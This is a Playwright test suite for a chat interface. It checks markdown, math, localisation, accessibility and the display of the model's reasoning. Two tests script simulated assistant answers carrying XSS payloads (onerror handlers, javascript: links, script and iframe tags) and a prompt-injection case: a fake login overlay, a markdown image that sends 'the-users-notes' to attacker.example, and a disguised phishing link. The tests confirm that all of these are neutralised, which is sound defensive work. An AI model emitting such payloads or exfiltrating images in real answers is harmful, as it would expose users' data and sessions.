import { test, expect, shot, sendMessage, lastAssistant, simUrl } from './fixtures';

async function script(request: import('@playwright/test').APIRequestContext, content: string): Promise<void> {
  const res = await request.post(`${simUrl()}/_sim/script`, { data: { responses: [{ kind: 'stream', content }] } });
  expect(res.status()).toBe(200);
}

test('XSS payloads in an answer are inert', async ({ page, api }) => {
  const conversation = await api.createConversation({ model: 'text' });
  await page.goto(`/c/${conversation.id}`);
  await script(
    page.request,
    [
      '<img src=x onerror="window.__xss=1"> [x](javascript:window.__xss=2)',
      '',
      '<a href="javascript:window.__xss=3">raw link</a> <svg onload="window.__xss=4"><circle r="1"/></svg>',
      '',
      '<script>window.__xss=5</script><iframe src="javascript:window.__xss=6"></iframe>',
      '',
      '<details open ontoggle="window.__xss=7">d</details> <form action="javascript:window.__xss=8"><button>go</button></form>',
    ].join('\n'),
  );
  await sendMessage(page, 'show me something nasty');
  const answer = lastAssistant(page);
  await expect(answer).toHaveAttribute('data-status', 'complete');
  await page.waitForTimeout(500);
  // Click every link and button inside the answer too.
  for (const link of await answer.locator('.markdown a').all()) await link.click({ modifiers: ['Control'] }).catch(() => undefined);
  expect(await page.evaluate(() => (window as any).__xss)).toBeUndefined();
  const dangerous = await answer.locator('.markdown *').evaluateAll((els) =>
    els
      .filter(
        (el) =>
          ['SCRIPT', 'IFRAME', 'FORM', 'OBJECT', 'EMBED'].includes(el.tagName) ||
          [...el.attributes].some((a) => a.name.startsWith('on') || /^\s*javascript:/i.test(a.value)),
      )
      .map((el) => el.outerHTML),
  );
  expect(dangerous).toEqual([]);
  // The markdown link with a javascript: URL is left as plain text, not a link.
  await expect(answer.locator('.markdown')).toContainText('[x](javascript:window.__xss=2)');
  await expect(answer.locator('img')).toHaveCount(1);
});

test('Markdown: tables, highlighted code with a copy button, KaTeX math; dark theme', async ({ page, api, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const conversation = await api.createConversation({ model: 'text' });
  await page.goto(`/c/${conversation.id}`);
  await script(
    page.request,
    [
      '## Result',
      '',
      '| n | square |',
      '|---|--------|',
      '| 2 | 4 |',
      '| 3 | 9 |',
      '',
      '```python',
      'def square(n):',
      '    return n * n  # simple',
      '```',
      '',
      'Inline math $E = mc^2$ and a display:',
      '',
      '$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$',
      '',
      '- [x] done item',
      '- [ ] open item',
      '  - [x] nested done',
      '- plain **bold** item',
    ].join('\n'),
  );
  await sendMessage(page, 'render things');
  const answer = lastAssistant(page);
  await expect(answer).toHaveAttribute('data-status', 'complete');
  await expect(answer.locator('table')).toBeVisible();
  await expect(answer.locator('table td').first()).toHaveText('2');
  await expect(answer.locator('.hljs-keyword').first()).toHaveText('def');
  await expect(answer.locator('.katex').first()).toBeVisible();
  await expect(answer.locator('.katex-display')).toHaveCount(1);
  // GFM task list: disabled checkboxes named by their item's text, which a click cannot change.
  const done = answer.getByRole('checkbox', { name: 'done item' });
  const open = answer.getByRole('checkbox', { name: 'open item' });
  await expect(done).toBeChecked();
  await expect(done).toBeDisabled();
  await expect(open).not.toBeChecked();
  await expect(open).toBeDisabled();
  // (Playwright refuses to click a label of a disabled control unless forced; the browser still gets a real click.)
  await answer.getByText('open item').click({ force: true });
  await expect(open).not.toBeChecked();
  await expect(answer.locator('li', { hasText: 'open item' })).not.toContainText('[ ]');
  await expect(answer.locator('li', { hasText: 'plain' }).getByRole('checkbox')).toHaveCount(0);
  await expect(answer.getByRole('checkbox', { name: 'nested done' })).toBeChecked();
  await answer.getByRole('button', { name: 'Copy code' }).click();
  await expect(answer.locator('.code-copy')).toHaveText('Copied');
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('def square(n):\n    return n * n  # simple\n');
  await shot(page, 'chat-markdown-light');

  await page.getByTestId('theme-select').selectOption('dark');
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  await shot(page, 'chat-markdown-dark');
  await page.reload();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  await page.getByTestId('theme-select').selectOption('system');
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'light');
});

test('Simplified Chinese: switchable, remembered, and the default title is localised', async ({ page }) => {
  await page.goto('/');
  await page.getByTestId('locale-select').selectOption('zh-CN');
  await expect(page.getByTestId('new-chat')).toContainText('新对话');
  await page.getByTestId('new-chat').click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('新对话');
  await expect(page.getByRole('textbox', { name: '你的消息' })).toBeVisible();
  await expect(page.locator('html')).toHaveAttribute('lang', 'zh-CN');
  await shot(page, 'chat-zh-cn');
  await page.reload();
  await expect(page.getByRole('button', { name: '对话设置' })).toBeVisible();
  await page.getByTestId('locale-select').selectOption('en');
  await expect(page.getByRole('button', { name: 'Conversation settings' })).toBeVisible();
});

test.describe('browser language', () => {
  test.use({ locale: 'zh-CN' });
  test('a Chinese browser gets the Chinese UI by default', async ({ page }) => {
    await page.goto('/');
    await expect(page.getByTestId('new-chat')).toContainText('新对话');
  });
});

test('token statistics show the usage of the runs just made', async ({ page, api }) => {
  const conversation = await api.createConversation({ model: 'tool-call' });
  await page.goto(`/c/${conversation.id}`);
  await sendMessage(page, 'what is 2+2?');
  await expect(lastAssistant(page)).toHaveAttribute('data-status', 'complete');
  const before = await api.get('/api/stats/tokens?period=daily');
  expect(before.total.total_tokens).toBeGreaterThan(0);

  await page.getByRole('link', { name: 'Token usage' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Token usage');
  await expect(page.getByTestId('stat-total')).toContainText(before.total.total_tokens.toLocaleString('en-US'));
  await expect(page.getByTestId('model-table')).toContainText('Sim tool-call');
  await expect(page.locator('canvas')).toHaveCount(2);
  await shot(page, 'stats-daily');
  await page.getByRole('radio', { name: 'Last 7 days' }).click();
  await expect(page.getByRole('radio', { name: 'Last 7 days' })).toHaveAttribute('aria-checked', 'true');
  await expect(page.getByTestId('model-table')).toContainText('Sim tool-call');
  await shot(page, 'stats-weekly');
});

test('keyboard: controls are reachable and focus is visible', async ({ page }) => {
  await page.goto('/');
  await page.keyboard.press('Tab');
  await expect(page.getByRole('link', { name: 'Skip to the chat' })).toBeFocused();
  for (let i = 0; i < 3; i++) await page.keyboard.press('Tab');
  const focused = page.locator(':focus');
  await expect(focused).toHaveCount(1);
  const outline = await focused.evaluate((el) => getComputedStyle(el).outlineStyle);
  expect(outline).not.toBe('none');
  // Every button has an accessible name.
  const unnamed = await page.locator('button').evaluateAll((buttons) =>
    buttons.filter((b) => !(b.getAttribute('aria-label') || b.textContent?.trim() || b.getAttribute('title'))).length,
  );
  expect(unnamed).toBe(0);
});

test('thinking streams live in an open block that collapses when the answer is done', async ({ page, api }) => {
  const conversation = await api.createConversation({ model: 'text' });
  await page.goto(`/c/${conversation.id}`);
  const res = await page.request.post(`${simUrl()}/_sim/script`, {
    data: {
      responses: [
        {
          kind: 'stream',
          reasoning: 'First I consider the question carefully, then I weigh a few options before I answer it.',
          content: 'The answer is forty two, after careful thought about everything that was asked.',
          chunkDelayMs: 60,
        },
      ],
    },
  });
  expect(res.status()).toBe(200);
  await sendMessage(page, 'think first');
  const answer = lastAssistant(page);
  const thinking = answer.locator('details.thinking');
  await expect(thinking).toHaveAttribute('open', '');
  await expect(thinking).toContainText('Thinking…');
  await expect(thinking).toContainText('consider the question');
  // While thinking is still growing, no text step exists yet: the order is kept live.
  await expect(answer.locator('[data-step="text"]')).toContainText('forty two');
  await expect(answer).toHaveAttribute('data-status', 'complete');
  await expect(thinking).not.toHaveAttribute('open', /.*/);
  await expect(thinking).toContainText('Thought process');
  await thinking.locator('summary').click();
  await expect(thinking).toHaveAttribute('open', '');
  await expect(thinking).toContainText('weigh a few options before I answer it.');
});

test('a prompt-injected answer cannot restyle the page, leak data through an image, or hide where a link goes', async ({ page, api }) => {
  const conversation = await api.createConversation({ model: 'text' });
  await page.goto(`/c/${conversation.id}`);
  const remote: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).host.endsWith('attacker.example')) remote.push(request.url());
  });
  // A 1×1 PNG, answered for the attacker's host once the reader chooses to load its image.
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
  await page.route('https://attacker.example/**', (route) => route.fulfill({ status: 200, contentType: 'image/png', body: png }));
  await script(
    page.request,
    [
      'Here is your summary.',
      '',
      '<div style="position:fixed;inset:0;z-index:9999;background:#fff" class="login-overlay">Your session expired. Sign in again.</div>',
      '',
      '![chart](https://attacker.example/collect?secret=the-users-notes)',
      '',
      'Read [the official docs](https://attacker.example/phish) for more.',
    ].join('\n'),
  );
  await sendMessage(page, 'summarise my notes');
  const answer = lastAssistant(page);
  await expect(answer).toHaveAttribute('data-status', 'complete');

  const overlay = answer.getByText('Your session expired. Sign in again.');
  await expect(overlay).toBeVisible();
  expect(await overlay.evaluate((el) => [el.getAttribute('style'), el.getAttribute('class'), getComputedStyle(el).position])).toEqual([null, null, 'static']);
  // The composer is still reachable: nothing covers the page.
  await expect(page.getByRole('textbox', { name: /your message/i })).toBeEnabled();

  const held = answer.getByRole('button', { name: 'Image from attacker.example — click to load' });
  await expect(held).toBeVisible();
  await page.waitForTimeout(300);
  expect(remote, 'nothing is fetched from the attacker before the reader asks').toEqual([]);

  const link = answer.getByRole('link', { name: 'the official docs' });
  await expect(link).toHaveAttribute('title', 'https://attacker.example/phish');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  await expect(answer.locator('.link-host')).toHaveText(' (attacker.example)');
  await shot(page, 'render-untrusted-held');

  await held.click();
  const image = answer.locator('img[src^="https://attacker.example/collect"]');
  await expect(image).toBeVisible();
  await expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
  expect(remote).toEqual(['https://attacker.example/collect?secret=the-users-notes']);
  await shot(page, 'render-untrusted-loaded');
});
